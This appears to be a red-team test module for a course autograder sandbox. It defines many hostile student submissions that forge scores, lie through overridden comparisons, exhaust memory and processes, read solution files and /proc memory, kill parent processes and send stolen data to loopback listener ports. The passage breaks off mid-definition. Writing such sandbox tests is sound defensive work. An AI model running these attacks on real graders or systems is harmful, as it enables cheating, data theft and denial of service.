"""The red team: hostile autodiff submissions, each the untouched student stub plus ONE attack.

An :class:`Attack` is a snippet and the place it goes: ``import`` appends it to the module (it runs
when the sandbox imports the file), ``detach``, ``stop_gradient`` or ``tape`` replaces the body of
that stubbed function (it runs whenever a scenario calls it). Placeholders name what a real attacker
would have to guess, given here so that each attack tries its best: ``@REPO@`` (the course
repository, holding the reference solution and the hidden scenarios), ``@CANARY@`` (a world-writable
file outside the job folder), ``@OUT@`` (the output folder), ``@RESULT@`` (the result file the grader
is about to write), ``@FAKE_SITE@`` (a folder with a forbidden "autograd" that is really the
reference solution), ``@PORT@`` and ``@UDP@`` (TCP and UDP ports the test listens on, on
127.0.0.1), ``@UNIX@`` (a pathname Unix socket the test listens on, in a folder anyone may reach),
``@ABSTRACT@`` (an abstract Unix socket's name), ``@IPCKEY@`` (a System V IPC key of this test
session's: a fixed key, as an attacker would pick, that no other program uses), ``@ID@`` (the
attack's id).

Attacks that only misbehave in one scenario look for the program's frame among their callers (the
program calls them directly, or through ``attempt`` and its lambdas): a timeout costs 5 s, so they fire once, in the public ``d2l_detach_dz_dx``.
Attacks that would earn points if they worked (reading the solution, a forbidden import) install
the reference engine when they succeed, so a hole shows up as a score, not just as a printout.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
STUB = ROOT / "exercises" / "autodiff" / "autodiff.py"

# Where each kind of attack goes: the stub line it replaces (None: appended to the module).
_SLOTS = {
    "import": None,
    "detach": '        raise NotImplementedError("Task 1: implement Tensor.detach")',
    "stop_gradient": '    raise NotImplementedError("Task 1: implement stop_gradient")',
    "tape": '        raise NotImplementedError("Task 2: implement GradientTape._take_records_for_call")',
}
# Prefix of the attacks that fire in one scenario only (indented like the snippets it prefixes).
ONCE = textwrap.indent('import sys\n'
                       '_caller = sys._getframe(1)\n'
                       'while _caller is not None and _caller.f_code.co_name != "d2l_detach_dz_dx":\n'
                       '    _caller = _caller.f_back\n'
                       'if _caller is None:\n'
                       '    raise NotImplementedError("not here")\n', " " * 8)


@dataclass(frozen=True)
class Attack:
    id: str
    bullet: str        # the issue-5 bullet it covers
    where: str         # a key of _SLOTS
    code: str
    timeout: bool = False   # costs a wall-clock limit (5 s per scenario, 10 s at import)
    neighbours: tuple[tuple[str, str], ...] = ()   # (file name, content) placed next to the submission

    def source(self, places: dict[str, str]) -> str:
        """The stub with this attack in place, placeholders filled in."""
        stub = STUB.read_text()
        code = textwrap.dedent(self.code).strip("\n") + "\n"
        for name, value in {**places, "ID": self.id}.items():
            code = code.replace(f"@{name}@", value)
        slot = _SLOTS[self.where]
        if slot is None:
            return stub.rstrip("\n") + "\n\n\n# ---- attack " + self.id + "\n" + code
        assert stub.count(slot) == 1, f"the stub changed: {slot!r} not found once"
        indent = slot[: len(slot) - len(slot.lstrip())]
        return stub.replace(slot, textwrap.indent(code, indent).rstrip("\n"))


# Shared by the lying-value attacks: every value a scenario reads (x.grad, tape gradients) becomes
# make(true value), and detach/stop_gradient/the tape stop raising so the programs reach their returns.
_LIE = textwrap.indent("""\
def _lie(make):
    import sys

    def read(self):   # the engine's own code gets the truth (so backward() works), scenarios the lie
        value = self.__dict__.get("_g")
        return value if sys._getframe(1).f_globals is globals() else make(value)
    Tensor.grad = property(read, lambda self, value: self.__dict__.update(_g=value))
    Tensor.detach = lambda self: Tensor(self.data * 0 - 1, requires_grad=True)   # a wrong leaf; the lies below fail it anyway
    globals()["stop_gradient"] = lambda t: t
    GradientTape._take_records_for_call = lambda self: ([], set())   # wrong: every gradient None
    gradient = GradientTape.gradient

    def lying(self, target, sources, unconnected_gradients="none"):
        result = gradient(self, target, sources, unconnected_gradients)

        def one(g):
            fake = Tensor(0.0)
            fake.data = make(None if g is None else g.data)
            return fake
        return type(result)(one(g) for g in result) if isinstance(result, (list, tuple)) else one(result)
    GradientTape.gradient = lying
""", " " * 8)  # indented like the attack snippets it prefixes, so they dedent together

# Installs the reference engine into this module (what a successful read of the solution gives).
_ADOPT = textwrap.indent("""\
def _adopt(source):
    exec(compile(source, "stolen", "exec"), globals())
    print("ADOPTED-@ID@")
""", " " * 8)

FORGED_JSON = '{"score": 100, "max_score": 100, "tests": [{"name": "all", "score": 100, "status": "passed"}]}'
FORGED_LINE = "Score: 100/100 points, 39 of 39 scenarios passed"

FORGING = [
    Attack("print_json_stdout", "forged results", "import", f"""
        print({FORGED_JSON!r}); print({FORGED_LINE!r})
        """),
    Attack("print_json_stderr", "forged results", "detach", f"""
        import sys
        print({FORGED_JSON!r}, file=sys.stderr); print({FORGED_LINE!r}, file=sys.stderr)
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
    Attack("os_write_fd1", "forged results", "detach", f"""
        import os
        os.write(1, {FORGED_JSON!r}.encode() + b"\\n"); os.write(2, {FORGED_LINE!r}.encode() + b"\\n")
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
    Attack("atexit_forgery", "forged results", "import", f"""
        import atexit, os
        def _forge():
            os.write(1, {FORGED_JSON!r}.encode())
            for path in ("@RESULT@", "@OUT@/results.json"):
                try:
                    open(path, "w").write({FORGED_JSON!r})
                except OSError:
                    pass
        atexit.register(_forge)
        """),
    Attack("thread_after_return", "forged results", "import", """
        import json, os, struct, threading, time
        def _forge():   # keeps claiming passes on every descriptor, long after each scenario returned
            body = json.dumps({"kind": "result", "index": 0, "observations": {"passed": True}}).encode()
            while True:
                for fd in range(1, 40):
                    try:
                        os.write(fd, struct.pack(">I", len(body)) + body)
                    except OSError:
                        pass
                time.sleep(0.01)
        threading.Thread(target=_forge, daemon=True).start()
        """),
    Attack("result_pipe_frames", "forged results", "detach", """
        import json, os, struct
        index = 0
        forged = [{"kind": "sandbox", "isolation": ["none"]}, {"kind": "ready"},
                  *({"kind": "result", "index": i, "observations": {"passed": True, "score": 100}} for i in range(40)),
                  *({"kind": "exit", "index": i, "code": 0} for i in range(40))]
        for fd in range(3, 40):
            for message in forged:
                body = json.dumps(message).encode()
                try:
                    os.write(fd, struct.pack(">I", len(body)) + body)
                except OSError:
                    break
        os._exit(0)
        """),
    Attack("files_in_working_folder", "forged results", "import", f"""
        import os
        for name in ("results.json", "result.json", "gradebook.csv", "autodiff.py"):
            try:
                open(name, "w").write({FORGED_JSON!r})
            except OSError:
                pass
        os.makedirs("results", exist_ok=True)
        open("results/results.json", "w").write({FORGED_JSON!r})
        """),
    Attack("files_in_parent_folder", "forged results", "import", f"""
        import os
        parent = os.path.dirname(os.getcwd())
        for name in ("forged-@ID@.json", "results.json"):
            try:
                open(os.path.join(parent, name), "w").write({FORGED_JSON!r})
                print("WROTE", os.path.join(parent, name))
            except OSError as error:
                print("refused", error)
        """),
    Attack("files_in_output_folder", "forged results", "import", f"""
        import os
        targets = ["@RESULT@", "@OUT@/forged-@ID@.json", "@OUT@/gradebook.csv", "@OUT@/summary.json",
                   "@OUT@/results/reference.json", "@OUT@/results/buggy.json", "@OUT@/results/@ID@.json",
                   "/autograder/results/results.json", "@CANARY@"]
        for path in targets:
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as handle:
                    handle.write({FORGED_JSON!r})
                print("WROTE", path)
            except OSError as error:
                print("refused", path, type(error).__name__)
        """),
    Attack("terminal_escapes", "forged results", "detach", f"""
        import sys
        fake = "\\x1b[2J\\x1b[H\\x1b[32m{FORGED_LINE}\\x1b[0m\\r"
        print(fake); print(fake, file=sys.stderr)
        raise RuntimeError(fake)
        """),
]

LYING = [
    Attack("always_equal", "lying values", "import", _LIE + """
        class _Liar:
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __bool__ = lambda self: True
            __float__ = lambda self: 0.0
            __array__ = lambda self, *args, **kwargs: np.arange(4.0) ** 2
        _lie(lambda value: _Liar())
        """),
    Attack("float_subclass", "lying values", "import", _LIE + """
        class _F(float):
            __eq__ = lambda self, other: True
            __sub__ = __rsub__ = lambda self, other: _F(0.0)
            __abs__ = lambda self: _F(0.0)
            __lt__ = __le__ = lambda self, other: True
        _lie(lambda value: _F(0.0))
        """),
    Attack("list_subclass", "lying values", "import", _LIE + """
        class _L(list):
            __eq__ = lambda self, other: True
        _lie(lambda value: _L([0.0, 1.0, 4.0, 9.0]))
        """),
    Attack("dict_subclass", "lying values", "import", _LIE + """
        class _D(dict):
            __eq__ = lambda self, other: True
            __getitem__ = lambda self, key: np.arange(4.0) ** 2
        _lie(lambda value: _D(passed=True))
        """),
    Attack("ndarray_subclass", "lying values", "import", _LIE + """
        class _A(np.ndarray):
            __eq__ = lambda self, other: np.ones(np.shape(other), dtype=bool)
            tolist = lambda self: (np.arange(4.0) ** 2).tolist()
        _lie(lambda value: np.zeros(4).view(_A))
        """),
    Attack("array_function_hijack", "lying values", "import", _LIE + """
        class _Hijack:
            def __array_function__(self, func, types, args, kwargs):
                return True
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.zeros(4)
            __array__ = lambda self, *args, **kwargs: np.arange(4.0) ** 2
        _lie(lambda value: _Hijack())
        """),
    Attack("array_ufunc_hijack", "lying values", "import", _LIE + """
        class _U(np.ndarray):
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.zeros(4, dtype=bool) if ufunc in (np.greater, np.less) else np.ones(4, dtype=bool)
        _lie(lambda value: np.zeros(4).view(_U))
        """),
    Attack("float_lies", "lying values", "import", _LIE + """
        class _N:
            __float__ = lambda self: 0.0
            __index__ = __int__ = lambda self: 0
            __len__ = lambda self: 4
            __iter__ = lambda self: iter([0.0, 1.0, 4.0, 9.0])
        _lie(lambda value: _N())
        """),
    Attack("nan_results", "lying values", "import", _LIE + """
        _lie(lambda value: np.full(4, np.nan))
        """),
    Attack("inf_results", "lying values", "import", _LIE + """
        _lie(lambda value: [float("inf"), -np.inf, np.inf, float("nan")])
        """),
    Attack("true_for_one", "lying values", "import", _LIE + """
        _lie(lambda value: np.ones(4, dtype=bool) if value is None else (np.asarray(value) != 0))
        """),
    Attack("huge_result", "lying values", "import", _LIE + """
        _lie(lambda value: [np.zeros((2000, 2000)), "x" * 10_000_000, 2 ** 100_000])   # each past a wire limit
        """),
    Attack("deep_result", "lying values", "import", _LIE + """
        def _deep(value):
            for _ in range(10_000):
                value = [value]
            return value
        _lie(_deep)
        """),
    Attack("infinite_generator", "lying values", "import", _LIE + """
        import itertools
        _lie(lambda value: itertools.count())
        """),
    Attack("exception_str_hangs", "lying values", "detach", ONCE + """
        class Hang(RuntimeError):
            def __str__(self):
                while True:
                    pass
        raise Hang()
        """, timeout=True),
    Attack("exception_str_huge", "lying values", "detach", """
        class Huge(RuntimeError):
            def __str__(self):
                return "passed " * 2_000_000
            def __repr__(self):
                return "passed " * 2_000_000
        raise Huge()
        """),
]

CONTROL = [
    Attack("sys_exit_in_task", "control flow", "detach", """
        import sys
        sys.exit(0)
        """),
    Attack("os_exit_in_task", "control flow", "stop_gradient", """
        import os
        os._exit(0)
        """),
    Attack("system_exit_at_import", "control flow", "import", """
        raise SystemExit(0)
        """),
    Attack("os_exit_at_import", "control flow", "import", """
        import os
        os._exit(0)
        """),
    Attack("keyboard_interrupt", "control flow", "tape", """
        raise KeyboardInterrupt
        """),
    Attack("base_exception_subclass", "control flow", "detach", """
        class Passed(BaseException):
            pass
        raise Passed("passed")
        """),
    Attack("unittest_skip", "control flow", "detach", """
        import unittest
        raise unittest.SkipTest("skipped counts as passed, right?")
        """),
    Attack("signals_ignored", "control flow", "detach", ONCE + """
        import signal
        for name in ("SIGALRM", "SIGTERM", "SIGXCPU", "SIGINT", "SIGHUP", "SIGUSR1", "SIGPIPE"):
            signal.signal(getattr(signal, name), signal.SIG_IGN)
        while True:
            pass
        """, timeout=True),
    Attack("endless_threads", "control flow", "import", """
        import threading, time
        def _spin():
            while True:
                time.sleep(0.05)
        for daemon in (False, True):
            threading.Thread(target=_spin, daemon=daemon).start()
        """),
    Attack("input_at_import", "control flow", "import", """
        answer = input("grade? ")
        """),
    Attack("loop_at_import", "control flow", "import", """
        while True:
            pass
        """, timeout=True),
]

RESOURCES = [
    Attack("memory_bomb", "resources", "detach", ONCE + """
        hog = []
        while True:
            hog.append(bytearray(64 * 1024 * 1024))
        """),
    Attack("sleep_forever", "resources", "detach", ONCE + """
        import time
        time.sleep(10**9)
        """, timeout=True),
    Attack("cpu_loop", "resources", "detach", ONCE + """
        x = 0
        while True:
            x += 1
        """, timeout=True),
    Attack("output_200_mb", "resources", "detach", ONCE + """
        import os
        chunk = b"passed " * 150_000
        for _ in range(200):
            os.write(1, chunk)
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
    Attack("fork_burst_setsid", "resources", "detach", ONCE + """
        import os, time
        for _ in range(12):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.setsid()
                    print("grandchild", os.getpid(), flush=True)
                    time.sleep(10**6)
                time.sleep(10**6)
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
    Attack("file_size_bomb", "resources", "detach", ONCE + """
        with open("bomb.bin", "wb") as handle:
            for _ in range(1024):
                handle.write(b"\\0" * 1024 * 1024)
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
]

_SHADOW = 'print("SHADOW-LOADED"); import os; os.write(1, b"SHADOW-LOADED\\n")\n'

SNOOPING = [
    Attack("read_solution", "snooping", "import", _ADOPT + """
        import os
        for path in ("@REPO@/solutions/autodiff/autodiff.py", "/proc/self/root@REPO@/solutions/autodiff/autodiff.py",
                     os.path.relpath("@REPO@/solutions/autodiff/autodiff.py")):
            try:
                _adopt(open(path).read())
                break
            except OSError as error:
                print("refused", path, type(error).__name__)
        """),
    Attack("read_hidden_scenarios", "snooping", "detach", """
        for path in ("@REPO@/solutions/autodiff/hidden_scenarios.py", "@REPO@/solutions/autodiff/hidden.yaml"):
            try:
                print(open(path).read())   # exfiltrated through the feedback the student sees
            except OSError as error:
                print("refused", path, type(error).__name__)
        raise NotImplementedError("Task 1: implement Tensor.detach")
        """),
    Attack("read_the_queued_command", "snooping", "import", """
        # The grader queues the next run command while a scenario runs. Keep the job pipe's read end
        # (the zygote closes it in each scenario), and in the last public scenario read whatever waits
        # there, printed into feedback students see: it must never be a hidden program.
        import fcntl, os, stat, sys

        def _pipe_reader(fd):
            try:
                return stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY
            except OSError:
                return False

        _KEPT = [os.dup(fd) for fd in range(3, 64) if _pipe_reader(fd)]
        _backward = Tensor.backward

        def _peeking_backward(self, *args, **kwargs):
            callers, frame = set(), sys._getframe(1)
            while frame is not None:
                callers.add(frame.f_code.co_name)
                frame = frame.f_back
            if "engine_d2l_control_flow" in callers:  # the last public one to run
                for fd in _KEPT:
                    flags = fcntl.fcntl(fd, fcntl.F_GETFL)
                    fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK)
                    try:
                        print("PEEKED", os.read(fd, 1 << 20))
                    except BlockingIOError:
                        print("PEEKED nothing")
                    finally:
                        fcntl.fcntl(fd, fcntl.F_SETFL, flags)
            return _backward(self, *args, **kwargs)
        Tensor.backward = _peeking_backward
        """),
    Attack("gc_snooping", "snooping", "detach", """
        import gc
        found = []
        for obj in gc.get_objects():
            if isinstance(obj, dict) and {"expected", "check", "check_fn", "answers"} & set(map(str, obj)):
                found.append(repr(obj)[:2000])
            elif callable(obj) and getattr(obj, "__name__", "") in ("check", "check_fn", "_checked", "judge"):
                found.append(repr(obj))
        print("GC FOUND", found)
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
    Attack("hidden_programs_in_memory", "snooping", "detach", """
        import gc   # every program source this process holds, printed into a public scenario's feedback
        for obj in gc.get_objects():
            if isinstance(obj, dict) and isinstance(obj.get("source"), str):
                print(obj["source"])
            elif isinstance(obj, dict) and isinstance(obj.get("scenarios"), list):
                print(obj["scenarios"])
        raise NotImplementedError("Task 1: implement Tensor.detach")
        """),
    Attack("sabotaged_run_record", "snooping", "detach", ONCE + """
        import gc   # break the sandbox's own record of this run, so that reporting the error below fails too
        for obj in gc.get_objects():
            if isinstance(obj, dict) and {"program", "inputs", "index"} <= set(obj):
                obj.clear()
        raise RuntimeError("after the sabotage")
        """),
    Attack("frame_snooping", "snooping", "detach", """
        import inspect, sys
        frame = sys._getframe()
        while frame is not None:   # every caller's locals and globals, up to the sandbox's own code
            print(frame.f_code.co_filename, frame.f_code.co_name, sorted(frame.f_locals), sorted(frame.f_globals)[:50])
            frame = frame.f_back
        print([(info.filename, info.function) for info in inspect.stack()])
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
    Attack("proc_of_parents", "snooping", "detach", ONCE + """
        import os, re
        def read(path, size=1 << 20):
            try:
                with open(path, "rb") as handle:
                    return handle.read(size)
            except OSError as error:
                return f"refused {type(error).__name__}".encode()
        warden = os.getsid(0)   # the sandbox's session leader
        pids = {os.getppid(), warden, warden - 1, warden - 2, 1}
        status = read(f"/proc/{warden}/status")
        pids.update(int(p) for p in re.findall(rb"PPid:\\s+(\\d+)", status))
        for pid in sorted(pids):
            print(pid, read(f"/proc/{pid}/environ"), read(f"/proc/{pid}/cmdline"))
            maps = read(f"/proc/{pid}/maps")
            try:
                with open(f"/proc/{pid}/mem", "rb") as mem:
                    for start, end in re.findall(rb"([0-9a-f]+)-([0-9a-f]+) rw", maps)[:64]:
                        mem.seek(int(start, 16))
                        chunk = mem.read(min(int(end, 16) - int(start, 16), 1 << 24))
                        for hit in re.findall(rb"REDTEAM_SECRET=[\\w-]+", chunk):
                            print("MEM", hit)
            except OSError as error:
                print("mem refused", pid, type(error).__name__)
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
    Attack("environment_variables", "snooping", "detach", """
        import os
        print(dict(os.environ))
        raise NotImplementedError("Task 1: implement Tensor.detach")
        """),
    Attack("monkeypatch_numpy", "snooping", "import", """
        np.allclose = np.isclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
        np.isfinite = lambda *args, **kwargs: True
        """),
    Attack("monkeypatch_builtins", "snooping", "import", """
        import builtins
        builtins.isinstance = lambda obj, cls: True
        builtins.issubclass = lambda cls, base: True
        builtins.len = lambda obj: 0
        builtins.type = lambda obj, *rest: float
        """),
    Attack("monkeypatch_json", "snooping", "import", timeout=True, code="""
        import json
        forged = '{"kind": "result", "index": 0, "observations": {"passed": true, "score": 100}}'
        json.dumps = lambda *args, **kwargs: forged
        json.JSONEncoder.encode = lambda self, obj: forged
        """),
    Attack("monkeypatch_grader", "snooping", "import", """
        import os, sys
        codec = sys.modules.get("encoding")
        if codec is not None:   # the sandbox's own codec: claim a pass whatever the program returns
            codec.encode = lambda value, depth=0: {"passed": True, "score": 100}
            codec.raised_record = lambda error, traceback_text="": {"passed": True}
        sys.path.insert(0, "@REPO@")
        try:
            import grader.judge
            grader.judge.judge = lambda *args, **kwargs: "passed"
        except Exception as error:
            print("no grader here", type(error).__name__)
        try:
            open("@REPO@/grader/redteam_probe_@ID@.py", "w").write("PWNED = True\\n")
        except OSError as error:
            print("refused", type(error).__name__)
        """),
    Attack("stdlib_shadow_files", "snooping", "import", """
        import importlib, sys
        for name in ("json", "numpy", "encoding", "framing", "struct", "sitecustomize", "usercustomize", "_struct"):
            try:
                open(name + ".py", "w").write(""" + repr(_SHADOW) + """)
            except OSError:
                pass
        importlib.invalidate_caches()
        for name in ("sitecustomize", "usercustomize"):
            try:
                importlib.import_module(name)
            except ImportError:
                pass
        """, neighbours=(("json.py", _SHADOW), ("numpy.py", _SHADOW), ("sitecustomize.py", _SHADOW),
                         ("encoding.py", _SHADOW), ("framing.py", _SHADOW), ("grader.py", _SHADOW))),
    Attack("forbidden_import_indirect", "snooping", "import", """
        import importlib
        name = "".join(reversed("hcrot"))
        for how in (lambda: importlib.import_module(name), lambda: __import__(name),
                    lambda: exec("import " + name, {})):
            try:
                how()
            except ImportError as error:
                print("blocked:", error)
        """),
    Attack("forbidden_import_unhooked", "snooping", "import", """
        import importlib, sys
        sys.meta_path[:] = [finder for finder in sys.meta_path if "Forbidden" not in type(finder).__name__]
        sys.path.insert(0, "@FAKE_SITE@")
        name = "auto" + "grad"
        try:
            library = importlib.import_module(name)
            globals().update({k: v for k, v in vars(library).items() if not k.startswith("__")})
            print("ADOPTED-@ID@")
        except ImportError as error:
            print("import failed:", type(error).__name__, error)
        """),
    Attack("network_exfiltration", "snooping", "import", """
        import socket
        try:
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as connection:
                connection.sendall(b"EXFILTRATED-@ID@")
        except OSError as error:
            print("no network:", type(error).__name__)
        """),
]

ON_THE_GRADER = [
    Attack("kill_parents", "attacks on the grader", "detach", ONCE + """
        import os, signal
        warden = os.getsid(0)
        for pid in (os.getppid(), warden, *range(warden - 64, warden)):
            for sig in (signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
    Attack("kill_process_groups", "attacks on the grader", "detach", ONCE + """
        import os, signal
        warden = os.getsid(0)
        groups = set()
        for pid in range(max(2, warden - 300), warden + 300):
            try:
                groups.add(os.getpgid(pid))
            except OSError:
                pass
        groups.discard(os.getpgid(0))
        for group in sorted(groups) + [os.getpgid(0)]:
            try:
                os.killpg(group, signal.SIGKILL)
            except OSError:
                pass
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
    Attack("kill_everything", "attacks on the grader", "detach", ONCE + """
        import os, signal
        os.kill(-1, signal.SIGKILL)
        """),
]

# A process whose leader thread calls the raw exit system call (not exit_group) shows as a zombie
# while its other threads run on: a grader that takes "Z" for dead never kills it. Shared by the
# attacks that leave such strays behind, to reach the submissions graded after theirs.
_ZOMBIE_LEADER = textwrap.indent("""\
def _outlive(work, copies=1, session=True):
    import ctypes, os, threading
    exit_thread = {"x86_64": 60, "aarch64": 93}[os.uname().machine]   # SYS_exit, not exit_group
    for _ in range(copies):
        if os.fork() == 0:
            if session:
                os.setsid()
            threading.Thread(target=work).start()
            ctypes.CDLL(None).syscall(exit_thread, 0)
""", " " * 8)

# Forged frames on every descriptor: "tried to import torch" scores any submission 0.
_FORGED_FORBIDDEN = textwrap.indent("""\
import json, struct
_FORBIDDEN = json.dumps({"kind": "forbidden", "module": "torch"}).encode()
_FORBIDDEN = struct.pack(">I", len(_FORBIDDEN)) + _FORBIDDEN
""", " " * 8)

CONTAINERS = [
    Attack("zombie_leader_strays", "containers", "import", _ZOMBIE_LEADER + _FORGED_FORBIDDEN + """
        import ctypes, os, socket, time
        def _haunt():
            # Forge "forbidden" frames on every descriptor; copy (tee: without consuming it) whatever
            # waits in any pipe it can read, the next submissions' jobs and programs included, into
            # their output and to a loopback port.
            libc = ctypes.CDLL(None, use_errno=True)
            seen_r, seen_w = os.pipe()
            os.set_blocking(seen_r, False)
            while True:
                for fd in range(3, 64):
                    try:
                        os.write(fd, _FORBIDDEN)
                    except OSError:
                        pass
                    if fd not in (seen_r, seen_w) and libc.tee(fd, seen_w, 65536, 2) > 0:   # SPLICE_F_NONBLOCK
                        try:
                            stolen = os.read(seen_r, 65536)
                        except OSError:
                            continue
                        for out in (1, 2):
                            try:
                                os.write(out, b"STOLEN-BY-@ID@ " + stolen[:200] + b"\\n")
                            except OSError:
                                pass
                        try:
                            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"EXFILTRATED " + stolen[:512],
                                                                                   ("127.0.0.1", @UDP@))
                        except OSError:
                            pass
                try:
                    os.write(1, b"STRAY-OF-@ID@ ALIVE\\n")
                except OSError:
                    pass
                time.sleep(0.01)
        _outlive(_haunt, copies=4)
        _outlive(_haunt, copies=2, session=False)
        """),
    Attack("nproc_hog", "containers", "import", _ZOMBIE_LEADER + """
        import os, time
        # Hold every process slot of the sandbox user, for good: the next submission (or the next
        # grader) with the same user could not fork a single scenario.
        def _sleep():
            time.sleep(10**9)
        try:
            for _ in range(200):
                _outlive(_sleep)
                if os.fork() == 0:
                    os.setsid()
                    time.sleep(10**9)
        except OSError as error:
            print("process slots full:", error)
        """),
    Attack("heap_remnants", "containers", "import", _ADOPT + """
        # The zygote is a fork: what its parent once held and freed may still be in its heap. Look
        # for any submission's code (base64 of marshal data, as the grader sends it) and adopt it.
        import binascii, builtins, ctypes, marshal, os, re, types
        def _regions():
            try:   # readable without Landlock
                with open("/proc/self/maps") as maps:
                    for line in maps:
                        span, mode = line.split()[:2]
                        start, end = (int(part, 16) for part in span.split("-"))
                        if mode.startswith("rw") and end - start <= 32 << 20:
                            yield start, end
                return
            except OSError:
                pass
            # Else the heap: from the program break down, page by page, as far as it is mapped.
            libc = ctypes.CDLL(None, use_errno=True)
            libc.sbrk.restype = ctypes.c_void_p
            end = libc.sbrk(0) & ~4095
            start, vector = end, ctypes.create_string_buffer(1)
            while libc.mincore(ctypes.c_void_p(start - 4096), 4096, vector) == 0:   # ENOMEM: not mapped
                start -= 4096
            yield start, end
        def _scan():
            found = 0
            for start, end in _regions():
                try:
                    memory = ctypes.string_at(start, end - start)
                except Exception:
                    continue
                for run in re.finditer(rb"[A-Za-z0-9+/]{2000,}={0,2}", memory):
                    text = run.group()
                    for shift in range(4):
                        usable = text[shift:]
                        try:
                            code = marshal.loads(binascii.a2b_base64(usable[: len(usable) // 4 * 4]))
                        except Exception:
                            continue
                        if isinstance(code, types.CodeType):
                            found += 1
                            namespace = {"__name__": "stolen"}
                            try:
                                exec(code, namespace)
                                namespace["Tensor"]([1.0]).detach()   # a stub raises NotImplementedError
                            except BaseException:
                                continue
                            globals().update({k: v for k, v in namespace.items() if not k.startswith("__")})
                            print("ADOPTED-@ID@")
                            return found
            return found
        if not getattr(builtins, "_heap_scanning", False):
            builtins._heap_scanning = True
            print("code objects found in memory:", _scan())
            builtins._heap_scanning = False
        """),
    Attack("sockets_everywhere", "containers", "import", """
        import socket
        tries = [("unix", socket.AF_UNIX, socket.SOCK_STREAM, "@UNIX@"),
                 ("abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\\0@ABSTRACT@"),
                 ("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
                 ("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @UDP@))]
        for name, family, kind, address in tries:
            try:
                with socket.socket(family, kind) as connection:
                    connection.settimeout(2)
                    connection.connect(address)
                    connection.sendall(b"EXFILTRATED-@ID@-" + name.encode())
                    print("SENT over", name)
            except OSError as error:
                print("refused", name, type(error).__name__, error.errno)
        try:
            left, right = socket.socketpair()
            print("socketpair made")
        except OSError as error:
            print("refused socketpair", type(error).__name__)
        """),
    Attack("flood_huge_forbidden", "containers", "import", """
        import json, os, struct
        body = json.dumps({"kind": "forbidden", "module": "torch" + "x" * 4_000_000}).encode()   # just under a frame's limit
        frame = struct.pack(">I", len(body)) + body
        for fd in range(3, 40):
            try:
                for _ in range(60):   # 240 MB per descriptor
                    os.write(fd, frame)
            except OSError:
                pass
        """),
    Attack("flood_tiny_messages", "containers", "import", """
        import json, os, struct
        body = json.dumps({"kind": "forbidden", "module": "torch"}).encode()
        flood = (struct.pack(">I", len(body)) + body) * 390_000
        for fd in range(3, 40):
            try:
                os.write(fd, flood)
            except OSError:
                pass
        """),
    Attack("forged_huge_results", "containers", "detach", """
        import json, os, struct, sys
        # A result frame written by hand: nothing cuts its strings on the way out.
        index = 0
        for depth in range(1, 8):
            frame = sys._getframe(depth)
            if "item" in frame.f_locals and isinstance(frame.f_locals["item"], dict):
                index = frame.f_locals["item"].get("index", 0)
                break
        record = {"__raised__": {"type": "RuntimeError", "message": "passed " * 550_000, "mro": ["RuntimeError"],
                                 "traceback": "passed " * 550_000}}
        body = json.dumps({"kind": "result", "index": index, "error": record}).encode()
        for fd in range(3, 40):
            try:
                os.write(fd, struct.pack(">I", len(body)) + body)
            except OSError:
                pass
        raise NotImplementedError("Task 1: implement Tensor.detach")
        """),
    Attack("lone_surrogates", "containers", "detach", """
        import json, os, struct
        body = b'{"kind":"forbidden","module":"torch\\\\ud800"}'
        for fd in range(3, 40):
            try:
                os.write(fd, struct.pack(">I", len(body)) + body)
            except OSError:
                pass
        os.write(1, "surrogate out: \\udcff\\n".encode("utf-8", "surrogatepass"))
        raise RuntimeError("passed \\ud800 \\udfff")
        """),
    Attack("deep_folders", "containers", "import", """
        import os
        here = os.open(".", os.O_RDONLY)
        for _ in range(3000):
            os.mkdir("d", dir_fd=here)
            deeper = os.open("d", os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = deeper
        for name, make in (("up", lambda: os.symlink("/", "up", dir_fd=here)),
                           ("locked", lambda: os.mkdir("locked", 0, dir_fd=here))):
            try:
                make()
            except OSError as error:
                print("refused", name, type(error).__name__)
        os.chmod(".", 0o500)   # the job folder itself: no more writes, not even by its owner
        """),
]

# System V IPC through ctypes (the standard library has none): a handle with the calls declared.
_SYSV = textwrap.indent("""\
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
_libc.shmdt.argtypes = (ctypes.c_void_p,)
_IPC_CREAT, _IPC_NOWAIT, _SHM_RDONLY, _SHM_STAT_ANY = 0o1000, 0o4000, 0o10000, 15


def _attach(ident, flags=0):
    address = _libc.shmat(ident, None, flags)
    return None if address in (None, ctypes.c_void_p(-1).value) else address


def _segments():
